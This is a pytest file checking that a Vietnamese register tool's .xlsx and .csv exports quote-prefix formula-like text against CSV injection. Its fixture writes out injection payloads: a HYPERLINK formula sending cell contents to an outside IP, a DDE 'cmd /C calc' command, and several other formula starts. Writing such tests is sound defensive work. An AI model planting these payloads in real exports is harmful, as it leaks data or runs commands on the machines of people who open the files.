"""Exports are safe to open: no text a clerk typed becomes a live spreadsheet formula (OWASP
"CSV injection"), in every exported column, in .xlsx and .csv."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
from openpyxl import load_workbook

import cli
from generator.register import Register
from generator.register.export import COLUMNS, CSV_SERIES, HEADER_ROW, csv_safe

# What OWASP lists as formula starts, each typed into a field a clerk controls.
HOSTILE = {
    "signer": '=HYPERLINK("http://203.0.113.1/?x="&A1,"Bấm vào đây")',
    "recipients": ["+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "- Lưu: VT, VP"],
    "archive": "=cmd|' /C calc'!A0",
    "reason": "@HYPERLINK(\"http://x\")",
}


@pytest.fixture
def register(tmp_path):
    register = Register(tmp_path / "so.sqlite3", user="vanthu", create=True)
    with register.issuing() as session:
        for number, kind in ((1, "KH"), (2, None), (3, "KH")):
            entry = session.reserve(kind="ke-hoach" if kind else "cong-van", type_code=kind,
                                    ky_hieu="KH-BQL" if kind else "BQL-VP", date=dt.date(2024, 3, number),
                                    trich_yeu="=1+1 trích yếu", signer=HOSTILE["signer"],
                                    recipients=HOSTILE["recipients"], archive=HOSTILE["archive"])
            session.issue(entry)
    register.void(3, HOSTILE["reason"], year=2024)
    yield register
    register.close()


def _formula_like(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_no_text_cell_of_the_xlsx_book_is_a_formula_and_formula_like_text_is_quote_prefixed(register, tmp_path):
    out = register.export_xlsx(tmp_path / "so.xlsx", 2024, agency="=Ban Quản lý")
    book = load_workbook(out)
    seen_columns = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    if _formula_like(cell.value):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
                        if cell.row > HEADER_ROW + 1:
                            seen_columns.add(cell.column)
        # the text is kept exactly as typed, readable
        assert sheet.cell(HEADER_ROW + 2, 4).value == HOSTILE["signer"]
        assert sheet.cell(HEADER_ROW + 2, 5).value == "\n".join(r.strip() for r in HOSTILE["recipients"])
        assert sheet["A2"].value.startswith("=Ban Quản lý") and sheet["A2"].quotePrefix
    # signer (4), recipients (5), archive (6) carried formula-like text and were neutralised
    assert seen_columns == {4, 5, 6}


@pytest.mark.parametrize("column", range(len(COLUMNS)), ids=[c[0] for c in COLUMNS])
def test_every_exported_column_is_neutralised_in_the_csv(register, tmp_path, column):
    out = register.export_csv(tmp_path / "so.csv", 2024)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == [CSV_SERIES, *(heading for heading, _ in COLUMNS)]
    for row in rows[1:]:
        cell = row[column + 1]
        assert not _formula_like(cell), (column, cell)
    texts = {row[column + 1] for row in rows[1:]}
    expected = {4: "'" + HOSTILE["signer"], 5: "'" + "\n".join(r.strip() for r in HOSTILE["recipients"]),
                6: "'" + HOSTILE["archive"]}
    if column + 1 in expected:
        assert texts == {expected[column + 1]}


def test_csv_safe_follows_the_owasp_list_and_leaves_other_text_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(start + "x") == "'" + start + "x"
    assert csv_safe("Lưu: VT") == "Lưu: VT" and csv_safe(5) == 5 and csv_safe("a=b") == "a=b"


def test_so_export_writes_a_csv_when_the_name_ends_in_csv(runner, register, tmp_path):
    result = runner.invoke(cli.main, ["so", "export", str(tmp_path / "so.csv"), "--year", "2024",
                                      "--register", str(register.path)])
    assert result.exit_code == 0, result.output
    assert "'=HYPERLINK" in (tmp_path / "so.csv").read_text(encoding="utf-8-sig")
